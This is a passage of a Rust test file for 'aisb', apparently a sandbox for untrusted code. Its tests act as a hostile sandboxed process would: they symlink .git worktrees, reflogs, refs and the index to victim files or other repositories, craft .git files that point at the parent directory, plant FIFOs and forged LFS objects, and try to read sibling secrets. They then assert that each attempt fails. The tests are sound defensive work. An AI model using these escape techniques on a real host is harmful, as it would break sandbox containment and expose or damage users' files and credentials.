            kept.stdout,
            o.stderr
        );
        // A link at `worktrees/` (nothing mounted below it this time): the host's index for
        // the work tree is its own, never read through the link.
        std::fs::remove_dir_all(proj.join(".git/worktrees/wt2/git-crypt")).unwrap();
        let _ = std::fs::remove_file(proj.join(".git/worktrees/wt/config.worktree"));
        // What the link points at: another repository's index, under the work tree's name.
        let other = p.dir.path().join("otherrepo");
        std::fs::create_dir_all(&other).unwrap();
        support::git_in(&other, &["init", "-q"]);
        std::fs::write(other.join("secret.txt"), "other\n").unwrap();
        support::git_in(&other, &["add", "secret.txt"]);
        let evil = p.dir.path().join("evil/wt");
        std::fs::create_dir_all(&evil).unwrap();
        std::fs::copy(other.join(".git/index"), evil.join("index")).unwrap();
        std::fs::write(evil.join("HEAD"), "ref: refs/heads/wtb\n").unwrap();
        if let Some((uid, gid)) = user {
            support::chown_r(p.dir.path(), uid, gid);
        }
        let mut cmd = p.run_cmd(
            backend,
            &format!(
                "C=$(cd \"$(git rev-parse --git-common-dir)\" && pwd)\n\
                 rm -rf \"$C/worktrees\" && ln -s {} \"$C/worktrees\"; echo link=$?",
                p.dir.path().join("evil").display()
            ),
        );
        cmd.current_dir(&wt);
        let l = Out::from(cmd.output().unwrap());
        l.expect("link", "0");
        assert_eq!(
            std::fs::read(proj.join(".git/worktrees/wt/index")).unwrap(),
            index_before,
            "{who} {}",
            l.stderr
        );
        assert!(proj.join(".git/worktrees/wt2").is_dir(), "{who}");
        let mut ls = Command::new("git");
        p.as_caller(&mut ls);
        let ls = Out::from(ls.current_dir(&wt).args(["ls-files"]).output().unwrap());
        assert!(
            !ls.stdout.contains("secret.txt"),
            "{who} another repository's index came back: {}",
            ls.stdout
        );
        // The host's commit in the work tree runs no planted hook.
        let mut commit = Command::new("git");
        p.as_caller(&mut commit);
        let c = Out::from(
            commit
                .current_dir(&wt)
                .args([
                    "-c",
                    "user.name=t",
                    "-c",
                    "user.email=t@t",
                    "commit",
                    "-q",
                    "--allow-empty",
                    "-m",
                    "host",
                ])
                .output()
                .unwrap(),
        );
        assert_eq!(c.code, 0, "{who} {}", c.stderr);
        assert_eq!(
            p.marked(),
            Vec::<String>::new(),
            "{who} a planted hook ran on the host"
        );
    }
    // A crafted `.git` file naming the project's parent as its repository.
    let dir = tempfile::tempdir().unwrap();
    let src = dir.path().join("src");
    for d in ["proj", "worktrees/n", "otherrepo", "home"] {
        std::fs::create_dir_all(src.join(d)).unwrap();
    }
    std::fs::write(src.join("proj/.git"), "gitdir: ../worktrees/n\n").unwrap();
    std::fs::write(src.join("worktrees/n/commondir"), "../..\n").unwrap();
    std::fs::write(src.join("worktrees/n/gitdir"), "../../proj/.git\n").unwrap();
    std::fs::write(src.join("worktrees/n/HEAD"), "ref: refs/heads/main\n").unwrap();
    std::fs::create_dir_all(src.join("objects")).unwrap();
    std::fs::create_dir_all(src.join("refs")).unwrap();
    std::fs::write(src.join("HEAD"), "ref: refs/heads/main\n").unwrap();
    std::fs::write(src.join("otherrepo/.env"), "TOKEN=sk-live-SIBLING\n").unwrap();
    let o = Out::from(
        Command::new(env!("CARGO_BIN_EXE_aisb"))
            .current_dir(src.join("proj"))
            .env("HOME", src.join("home"))
            .env("XDG_CACHE_HOME", dir.path().join("cache"))
            .env("XDG_CONFIG_HOME", dir.path().join("config"))
            .args([
                "--trust",
                "run",
                "--backend",
                "bwrap",
                "--",
                "/bin/sh",
                "-c",
            ])
            .arg(format!("cat {}/otherrepo/.env", src.display()))
            .stdin(Stdio::null())
            .output()
            .unwrap(),
    );
    assert!(
        !o.stdout.contains("sk-live-SIBLING"),
        "a crafted work tree exposed its parent:\n{}",
        o.stdout
    );
}

/// The crafted work tree again, its repository reached through a link partway along the path
/// (`sib/up -> ../..`): as text the repository is elsewhere, on disk it is the parent.
#[test]
fn a_crafted_work_tree_through_a_link_does_not_expose_its_parent() {
    let dir = tempfile::tempdir().unwrap();
    let dl = dir.path().join("dl");
    for d in [
        "proj",
        "worktrees/w",
        "victimproj",
        "objects",
        "refs",
        "sib",
        "home",
    ] {
        std::fs::create_dir_all(dl.join(d)).unwrap();
    }
    std::os::unix::fs::symlink("../..", dl.join("sib/up")).unwrap();
    std::fs::write(dl.join("HEAD"), "ref: refs/heads/main\n").unwrap();
    std::fs::write(dl.join("proj/.git"), "gitdir: ../sib/up/dl/worktrees/w\n").unwrap();
    std::fs::write(dl.join("worktrees/w/commondir"), "../..\n").unwrap();
    std::fs::write(dl.join("worktrees/w/gitdir"), "../../../../../proj/.git\n").unwrap();
    std::fs::write(dl.join("worktrees/w/HEAD"), "ref: refs/heads/main\n").unwrap();
    std::fs::write(dl.join("victimproj/.env"), "TOKEN=sk-live-SIBLING\n").unwrap();
    let through = dl.join("sib/up/dl/victimproj/.env");
    let o = Out::from(
        Command::new(env!("CARGO_BIN_EXE_aisb"))
            .current_dir(dl.join("proj"))
            .env("HOME", dl.join("home"))
            .env("XDG_CACHE_HOME", dir.path().join("cache"))
            .env("XDG_CONFIG_HOME", dir.path().join("config"))
            .args([
                "--trust",
                "run",
                "--backend",
                "bwrap",
                "--",
                "/bin/sh",
                "-c",
            ])
            .arg(format!(
                "cat {} {}",
                through.display(),
                dl.join("victimproj/.env").display()
            ))
            .stdin(Stdio::null())
            .output()
            .unwrap(),
    );
    assert!(
        !o.stdout.contains("sk-live-SIBLING"),
        "a crafted work tree exposed its parent through a link:\n{}",
        o.stdout
    );
}

as_root_and_a_user!(a_reviewers_attacks_on_linked_work_trees_fail_as_root, a_reviewers_attacks_on_linked_work_trees_fail_as_a_user => worktree_review);

/// A named sandbox links its clone's reflog directory and remote-tracking refs to host files
/// (a victim directory, another repository's branches), then the host commits and a second
/// session starts. The host's git never writes into the clone, so nothing is deleted,
/// appended to or moved through the links.
fn named_links(user: Option<(u32, u32)>) {
    for backend in BACKENDS {
        let who = who(backend, user);
        let p = Project::new(user);
        let proj = p.proj();
        let victim = p.dir.path().join("victim");
        std::fs::create_dir_all(&victim).unwrap();
        std::fs::write(victim.join("thesis"), "years of work\n").unwrap();
        std::fs::write(victim.join("main"), "# bashrc\n").unwrap();
        let other = p.dir.path().join("other");
        std::fs::create_dir_all(&other).unwrap();
        support::git_in(&other, &["init", "-q", "-b", "main"]);
        std::fs::write(other.join("f"), "f\n").unwrap();
        support::commit_all(&other, "other");
        support::git_in(&other, &["branch", "feature"]);
        if let Some((uid, gid)) = user {
            support::chown_r(p.dir.path(), uid, gid);
        }
        let before = p
            .git(&["-C", &other.to_string_lossy(), "for-each-ref"])
            .stdout;
        let script = format!(
            "git update-ref refs/remotes/origin/thesis HEAD\n\
             rm -rf .git/logs/refs/remotes/origin && ln -s {v} .git/logs/refs/remotes/origin; echo logs=$?\n\
             git pack-refs --all; rm -rf .git/refs/remotes/origin && ln -s {o}/.git/refs/heads .git/refs/remotes/origin; echo refs=$?\n\
             touch ready\n\
             i=0; while [ $i -lt 40 ]; do sleep 0.1; i=$((i+1)); done\n",
            v = victim.display(),
            o = other.display()
        );
        let mut child = p.spawn_named(backend, "s1", &script);
        p.wait_in_clone(&who, "s1", "ready", &mut child);
        std::fs::write(proj.join("README"), "moved\n").unwrap();
        p.git_ok(&who, &["commit", "-qam", "host"]);
        let o = Project::finish(child);
        assert_eq!(o.code, 0, "{who} {}\n{}", o.stdout, o.stderr);
        o.expect("logs", "0");
        o.expect("refs", "0");
        // A second session starts with the links in place.
        let o2 = Out::from(p.named_cmd(backend, "s1", "true").output().unwrap());
        assert_eq!(o2.code, 0, "{who} {}", o2.stderr);
        assert_eq!(
            std::fs::read_to_string(victim.join("thesis"))
                .ok()
                .as_deref(),
            Some("years of work\n"),
            "{who} a file was deleted through the clone's reflog link"
        );
        assert_eq!(
            std::fs::read_to_string(victim.join("main")).unwrap(),
            "# bashrc\n",
            "{who} a file was appended to through the clone's reflog link"
        );
        assert_eq!(
            p.git(&["-C", &other.to_string_lossy(), "for-each-ref"])
                .stdout,
            before,
            "{who} another repository's branches moved through the clone's refs link"
        );
    }
}

as_root_and_a_user!(a_named_sandboxs_links_make_the_host_write_nothing_as_root, a_named_sandboxs_links_make_the_host_write_nothing_as_a_user => named_links);

/// A named sandbox leaves its clone's `.git/index` a link to the user's repository's index,
/// its `refs/heads` a link to another repository's branches, and `packed-refs` a FIFO. The
/// session's end and the next session's start neither hang nor touch what the links name:
/// the user's index keeps no flag of aisb's, no branch of the other repository reaches
/// `sandbox-NAME/*`, and the plants are moved aside.
fn named_plants(user: Option<(u32, u32)>) {
    for backend in BACKENDS {
        let who = who(backend, user);
        let p = Project::new(user);
        let proj = p.proj();
        std::fs::write(proj.join(".env"), "TOKEN=tracked\n").unwrap();
        p.git_ok(&who, &["add", ".env"]);
        p.git_ok(&who, &["commit", "-qm", "env"]);
        let other = p.dir.path().join("other");
        std::fs::create_dir_all(&other).unwrap();
        support::git_in(&other, &["init", "-q", "-b", "embargoed-fix"]);
        std::fs::write(other.join("f"), "f\n").unwrap();
        support::commit_all(&other, "other");
        if let Some((uid, gid)) = user {
            support::chown_r(p.dir.path(), uid, gid);
        }
        let index_before = std::fs::read(proj.join(".git/index")).unwrap();
        let script = format!(
            "git -c user.name=a -c user.email=a@a commit -q --allow-empty -m inside && echo commit=ok\n\
             rm -f .git/index; ln -s {proj}/.git/index .git/index; echo index=$?\n\
             mv .git/refs/heads .git/my-heads && ln -s {o}/.git/refs/heads .git/refs/heads; echo heads=$?\n\
             rm -f .git/packed-refs; mkfifo .git/packed-refs; echo fifo=$?\n",
            proj = proj.display(),
            o = other.display()
        );
        let o = Out::from(p.named_cmd(backend, "s1", &script).output().unwrap());
        o.expect("index", "0");
        o.expect("heads", "0");
        o.expect("fifo", "0");
        // The next session, bounded: it must neither hang nor rewrite what the links name.
        let mut child = p.spawn_named(backend, "s1", "true");
        let deadline = Instant::now() + Duration::from_secs(120);
        let status = loop {
            if let Some(s) = child.try_wait().unwrap() {
                break s;
            }
            if Instant::now() > deadline {
                let _ = child.kill();
                panic!("{who} the next session hung on what the sandbox planted");
            }
            std::thread::sleep(Duration::from_millis(100));
        };
        let o2 = Project::finish(child);
        assert!(status.success() || o2.code != 0, "{who}");
        assert_eq!(
            std::fs::read(proj.join(".git/index")).unwrap(),
            index_before,
            "{who} the user's index was rewritten through the clone's link:\n{}",
            o2.stderr
        );
        let remotes = p
            .git(&["for-each-ref", "--format=%(refname)", "refs/remotes/"])
            .stdout;
        assert!(
            !remotes.contains("embargoed-fix"),
            "{who} another repository's branch reached the repository: {remotes}"
        );
        // Said when found: at the first session's end (its last sync) or the next start.
        assert!(
            format!("{}{}", o.stderr, o2.stderr).contains("something git would not have"),
            "{who} the plants were not reported: {}\n{}",
            o.stderr,
            o2.stderr
        );
    }
}

as_root_and_a_user!(a_named_sandboxs_plants_hold_nothing_and_hang_nothing_as_root, a_named_sandboxs_plants_hold_nothing_and_hang_nothing_as_a_user => named_plants);

/// A sandbox that commits in a loop cannot make the host sync once per poll: each sync
/// re-hashes what the sandbox wrote (a big pack, every 300 ms, was the host's whole CPU).
/// 40 commits over about 4 s come back in a handful of fetches, the last commit among them.
fn named_sync_rate(user: Option<(u32, u32)>) {
    for backend in BACKENDS {
        let who = who(backend, user);
        let p = Project::new(user);
        let script = "git checkout -q -b work\n\
             i=1; while [ $i -le 40 ]; do echo $i > n.txt; git add n.txt; \
             git -c user.name=s -c user.email=s@s commit -qm c$i; sleep 0.1; i=$((i+1)); done\n\
             echo last=$(git rev-parse HEAD)\n";
        let o = Project::finish(p.spawn_named(backend, "s1", script));
        assert_eq!(o.code, 0, "{who} {}\n{}", o.stdout, o.stderr);
        let last = o.value("last").unwrap().to_string();
        let tip = p.git(&["rev-parse", "refs/remotes/sandbox-s1/work"]);
        assert_eq!(
            tip.stdout.trim(),
            last,
            "{who} the last commit is not on the host"
        );
        // One reflog entry per fetch that moved the branch.
        let syncs = p
            .git(&[
                "reflog",
                "show",
                "--format=%H",
                "refs/remotes/sandbox-s1/work",
            ])
            .stdout
            .lines()
            .count();
        assert!(
            (1..=6).contains(&syncs),
            "{who} {syncs} syncs for 40 commits in about 4 s"
        );
    }
}

as_root_and_a_user!(a_sandbox_committing_in_a_loop_is_synced_a_few_times_as_root, a_sandbox_committing_in_a_loop_is_synced_a_few_times_as_a_user => named_sync_rate);

/// What the host's git rewrites by renaming during a session (`git pack-refs`, `git gc`, a
/// checkout's `HEAD`) is what the sandbox's `git fetch origin` sees, not the file as it was
/// at the start: a branch made and packed on the host meanwhile arrives, and so does the one
/// packed away from `refs/heads`.
fn named_fresh_refs(user: Option<(u32, u32)>) {
    for backend in BACKENDS {
        let who = who(backend, user);
        let p = Project::new(user);
        // A per-work-tree configuration with a credential: the sandbox sees its view.
        p.git_ok(&who, &["config", "extensions.worktreeConfig", "true"]);
        std::fs::write(
            p.proj().join(".git/config.worktree"),
            "[http]\n\textraheader = AUTHORIZATION: bearer sk-live-WORKTREE-CONFIG\n",
        )
        .unwrap();
        if let Some((uid, gid)) = user {
            support::chown_r(&p.proj(), uid, gid);
        }
        let script = "cat \"$(git remote get-url origin)/.git/config.worktree\"\n\
             touch ready\n\
             i=0; while [ $i -lt 300 ] && [ ! -e go ]; do sleep 0.1; i=$((i+1)); done\n\
             sleep 1\n\
             git fetch -q origin 2>&1\n\
             echo later=$(git rev-parse -q --verify origin/later >/dev/null && echo yes)\n\
             echo main=$(git rev-parse -q --verify origin/main >/dev/null && echo yes)\n";
        let mut child = p.spawn_named(backend, "s1", script);
        p.wait_in_clone(&who, "s1", "ready", &mut child);
        p.git_ok(&who, &["branch", "later"]);
        p.git_ok(&who, &["pack-refs", "--all", "--prune"]);
        let go = p.clone_of("s1").unwrap().join("go");
        std::fs::write(&go, "").unwrap();
        if let Some((uid, gid)) = user {
            support::chown_r(&go, uid, gid);
        }
        let o = Project::finish(child);
        assert_eq!(o.code, 0, "{who} {}\n{}", o.stdout, o.stderr);
        o.expect("later", "yes");
        o.expect("main", "yes");
        assert!(
            !o.stdout.contains("sk-live-WORKTREE-CONFIG"),
            "{who} the work tree configuration's credential inside:\n{}",
            o.stdout
        );
    }
}

as_root_and_a_user!(refs_the_host_repacks_during_a_named_session_are_seen_as_root, refs_the_host_repacks_during_a_named_session_are_seen_as_a_user => named_fresh_refs);

/// Inside: the oid of `big.bin` as committed (`lfs_oid`).
const LFS_OID: &str = "echo lfs_oid=$(git show HEAD:big.bin | sed -n 's/^oid sha256://p')\n";
/// Inside: a Git LFS object planted under the name of content it does not hold (`forged_oid`).
const LFS_FORGE: &str = "f=$(printf 'PLANTED\\n' | sha256sum | cut -c1-64); d=.git/lfs/objects/$(echo $f | cut -c1-2)/$(echo $f | cut -c3-4); \
     mkdir -p $d && echo forged > $d/$f && echo forged_oid=$f\n";

/// The Git LFS object of what the sandbox committed is in the host's `git_dir` with its
/// content; the forged one is not.
fn lfs_came_back(who: &str, o: &Out, git_dir: &std::path::Path, content: &str) {
    let at = |oid: &str| {
        git_dir
            .join("lfs/objects")
            .join(&oid[..2])
            .join(&oid[2..4])
            .join(oid)
    };
    let oid = o.value("lfs_oid").expect("lfs_oid");
    assert_eq!(oid.len(), 64, "{who} {}", o.stdout);
    assert_eq!(
        std::fs::read_to_string(at(oid)).ok().as_deref(),
        Some(content),
        "{who} the LFS content of the sandbox's commit is not on the host\n{}",
        o.stderr
    );
    let forged = o.value("forged_oid").expect("forged_oid");
    assert!(
        !at(forged).exists(),
        "{who} the forged LFS object came back"
    );
    assert!(
        o.stderr
            .contains("Git LFS object the sandbox stored was not brought back"),
        "{who} the forged LFS object was not said\n{}",
        o.stderr
    );
}

/// A named sandbox's commit of a file Git LFS tracks: its content reaches the repository's
/// LFS objects with the branch (it used to stay in the clone, gone with the sandbox); an object
/// planted under a name its content does not hash to stays out.
fn named_lfs(user: Option<(u32, u32)>) {
    for backend in BACKENDS {
        let who = who(backend, user);
        let p = Project::new(user);
        let proj = p.proj();
        support::chown_r(&proj, 0, 0);
        // As `git lfs install` leaves it: in the user's own ~/.gitconfig, which the sandbox
        // does not see.
        std::fs::create_dir_all(p.dir.path().join("home")).unwrap();
        std::fs::write(
            p.dir.path().join("home/.gitconfig"),
            "[filter \"lfs\"]\n\tclean = git-lfs clean -- %f\n\tsmudge = git-lfs smudge -- %f\n\tprocess = git-lfs filter-process\n\trequired = true\n",
        )
        .unwrap();
        std::fs::write(
            proj.join(".gitattributes"),
            "*.bin filter=lfs diff=lfs merge=lfs -text\n",
        )
        .unwrap();
        support::commit_all(&proj, "lfs");
        if let Some((uid, gid)) = user {
            support::chown_r(p.dir.path(), uid, gid);
        }
        let script = format!(
            "echo filter=$(git config filter.lfs.clean)\n\
             echo named-lfs-content > big.bin && git add big.bin .gitattributes && \
             git -c user.name=a -c user.email=a@a commit -qm bin && echo lfs_commit=ok\n{LFS_OID}{LFS_FORGE}"
        );
        let o = Project::finish(p.spawn_named(backend, "s1", &script));
        assert_eq!(o.code, 0, "{who} {}\n{}", o.stdout, o.stderr);
        o.expect("lfs_commit", "ok");
        lfs_came_back(&who, &o, &proj.join(".git"), "named-lfs-content\n");
        // The clone's configuration as a link to another file of the user's (what a sandbox
        // that moved its `.git` aside could leave): the next session's copy of the filter
        // writes nothing through it.
        let victim = p.dir.path().join("victim.config");
        let text = "[filter \"lfs\"]\n\tclean = other\n[user]\n\tname = victim\n";
        std::fs::write(&victim, text).unwrap();
        let config = p.clone_of("s1").unwrap().join(".git/config");
        std::fs::remove_file(&config).unwrap();
        std::os::unix::fs::symlink(&victim, &config).unwrap();
        let _ = Out::from(p.named_cmd(backend, "s1", "true").output().unwrap());
        assert_eq!(
            std::fs::read_to_string(&victim).unwrap(),
            text,
            "{who} the host wrote through the clone's linked config"
        );
    }
}

as_root_and_a_user!(git_lfs_content_committed_in_a_named_sandbox_comes_back_as_root, git_lfs_content_committed_in_a_named_sandbox_comes_back_as_a_user => named_lfs);
